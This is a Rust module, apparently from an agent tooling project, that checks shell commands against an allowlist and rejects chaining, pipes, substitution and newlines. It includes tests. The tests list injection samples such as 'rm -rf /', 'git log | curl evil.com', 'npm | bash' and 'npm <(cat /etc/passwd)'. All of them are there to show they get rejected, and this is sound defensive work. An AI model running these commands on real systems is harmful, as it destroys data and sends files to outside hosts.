// Copyright (c) 2024-2026 Martin Schröder <info@swedishembedded.com>
//
// SPDX-License-Identifier: MIT
//!
//! Command allow-list validation, hardened against shell injection.
//!
//! A command matches the allowlist iff all of these hold:
//! 1. it is non-empty after trimming;
//! 2. it contains none of the forbidden shell patterns;
//! 3. at least one allowlist entry matches it — as an exact string, as a
//!    space-delimited prefix, or as the command's executable base name.
//!
//! Glob characters in allowlist entries are treated as literal text, never
//! as wildcards: an entry like `git *` matches nothing, by construction.

/// Shell metacharacters and substitution syntax that would let a matched
/// prefix smuggle in a second command. Checked before any matching.
pub const FORBIDDEN_PATTERNS: [&str; 11] = [
    "&&", "||", ";", "|", "`", "$(", "${", "<(", ">(", "\n", "\r",
];

const GLOB_CHARS: [char; 4] = ['*', '?', '[', ']'];

/// Returns the first forbidden pattern found in `command`, if any.
pub fn first_forbidden_pattern(command: &str) -> Option<&'static str> {
    FORBIDDEN_PATTERNS
        .iter()
        .copied()
        .find(|p| command.contains(p))
}

/// The allowlist decision. Metacharacter rejection precedes matching, for
/// every allowlist including the empty one.
pub fn is_command_allowed(command: &str, allowlist: &[String]) -> bool {
    let trimmed = command.trim();
    if trimmed.is_empty() {
        return false;
    }
    if first_forbidden_pattern(trimmed).is_some() {
        return false;
    }

    allowlist.iter().any(|entry| entry_matches(entry, trimmed))
}

fn entry_matches(entry: &str, command: &str) -> bool {
    let entry = entry.trim();
    if entry.is_empty() {
        return false;
    }
    // Glob characters are literal mismatches: a pattern-style entry can
    // only match a command containing the same literal characters, and
    // those commands were already rejected above when the chars overlap
    // the forbidden set. Keeping them inert avoids a second pattern
    // language inside a security boundary.
    if entry.chars().any(|c| GLOB_CHARS.contains(&c)) {
        return false;
    }

    // Exact.
    if entry == command {
        return true;
    }
    // Space-delimited prefix: "npm install" matches "npm install lodash".
    if let Some(rest) = command.strip_prefix(entry) {
        if rest.starts_with(char::is_whitespace) {
            return true;
        }
    }
    // Executable base name: entry "pytest" matches "pytest tests/ -v".
    let base = command.split_whitespace().next().unwrap_or("");
    entry == base
}

// ── Unit tests ────────────────────────────────────────────────────────────────

#[cfg(test)]
mod tests {
    use super::*;

    fn list(entries: &[&str]) -> Vec<String> {
        entries.iter().map(|s| s.to_string()).collect()
    }

    // ── Exact and prefix matching ─────────────────────────────────────────────

    #[test]
    fn exact_match_is_allowed() {
        let allow = list(&["git status", "npm test"]);
        assert!(is_command_allowed("git status", &allow));
        assert!(is_command_allowed("npm test", &allow));
    }

    #[test]
    fn prefix_match_requires_a_word_boundary() {
        let allow = list(&["npm install", "pytest"]);
        assert!(is_command_allowed("npm install lodash", &allow));
        assert!(is_command_allowed("pytest tests/", &allow));
        // "npm test" shares only a partial token with "npm install".
        assert!(!is_command_allowed("npm test", &allow));
        // No boundary: "npm installx" must not match "npm install".
        assert!(!is_command_allowed("npm installx", &allow));
    }

    #[test]
    fn base_name_entry_matches_any_arguments() {
        let allow = list(&["pytest"]);
        assert!(is_command_allowed("pytest tests/test_foo.py -v", &allow));
        assert!(is_command_allowed("pytest", &allow));
        assert!(!is_command_allowed("pytest2 tests/", &allow));
    }

    #[test]
    fn unlisted_commands_are_denied() {
        let allow = list(&["git status"]);
        assert!(!is_command_allowed("rm -rf /", &allow));
        assert!(!is_command_allowed("curl evil.com", &allow));
    }

    #[test]
    fn empty_allowlist_denies_everything() {
        assert!(!is_command_allowed("ls", &[]));
        assert!(!is_command_allowed("npm install", &[]));
    }

    #[test]
    fn blank_commands_are_denied() {
        let allow = list(&["ls"]);
        assert!(!is_command_allowed("", &allow));
        assert!(!is_command_allowed("   ", &allow));
        assert!(!is_command_allowed("\n\t", &allow));
    }

    // ── Metacharacter rejection (security) ────────────────────────────────────

    #[test]
    fn chaining_is_blocked_even_with_matching_prefix() {
        let allow = list(&["npm install", "git", "npm", "python"]);
        assert!(!is_command_allowed("npm install && rm -rf /", &allow));
        assert!(!is_command_allowed("git status && rm -rf /", &allow));
        assert!(!is_command_allowed("npm || malicious", &allow));
        assert!(!is_command_allowed("npm; rm -rf /", &allow));
        assert!(!is_command_allowed("python; whoami", &allow));
    }

    #[test]
    fn pipes_and_substitution_are_blocked() {
        let allow = list(&["npm", "git"]);
        assert!(!is_command_allowed("npm | bash", &allow));
        assert!(!is_command_allowed("git log | curl evil.com", &allow));
        assert!(!is_command_allowed("npm `malicious`", &allow));
        assert!(!is_command_allowed("git $(whoami)", &allow));
        assert!(!is_command_allowed("npm ${MALICIOUS}", &allow));
        assert!(!is_command_allowed("npm <(cat /etc/passwd)", &allow));
        assert!(!is_command_allowed("git >(tee log.txt)", &allow));
    }

    #[test]
    fn embedded_newlines_are_blocked() {
        let allow = list(&["git"]);
        assert!(!is_command_allowed("git status\nrm -rf /", &allow));
        assert!(!is_command_allowed("git status\rrm -rf /", &allow));
    }

    // ── Glob entries are inert ────────────────────────────────────────────────

    #[test]
    fn glob_entries_never_match_anything() {
        let allow = list(&["git *", "npm *", "rm -rf [abc]", "ls?"]);
        assert!(!is_command_allowed("git status", &allow));
        assert!(!is_command_allowed("npm install", &allow));
        assert!(!is_command_allowed("rm -rf a", &allow));
        assert!(!is_command_allowed("lsx", &allow));
    }

    #[test]
    fn first_forbidden_pattern_reports_the_offender() {
        assert_eq!(first_forbidden_pattern("a && b"), Some("&&"));
        assert_eq!(first_forbidden_pattern("plain command"), None);
    }

    // ── Properties ────────────────────────────────────────────────────────────

    proptest::proptest! {
        /// Any command containing a forbidden pattern is denied, for every
        /// allowlist.
        #[test]
        fn forbidden_patterns_always_deny(
            prefix in "[a-z ]{0,20}",
            suffix in "[a-z ]{0,20}",
            pattern_idx in 0usize..FORBIDDEN_PATTERNS.len(),
            entry in "[a-z]{1,8}",
        ) {
            let cmd = format!("{prefix}{}{suffix}", FORBIDDEN_PATTERNS[pattern_idx]);
            let allow = vec![entry, prefix.trim().to_string()];
            proptest::prop_assert!(!is_command_allowed(&cmd, &allow));
        }

        /// An exact entry always matches itself when it is clean.
        #[test]
        fn clean_exact_entries_match(cmd in "[a-z][a-z0-9 _./-]{0,30}") {
            let trimmed = cmd.trim().to_string();
            proptest::prop_assume!(!trimmed.is_empty());
            let allow = vec![trimmed.clone()];
            proptest::prop_assert!(is_command_allowed(&trimmed, &allow));
        }
    }
}
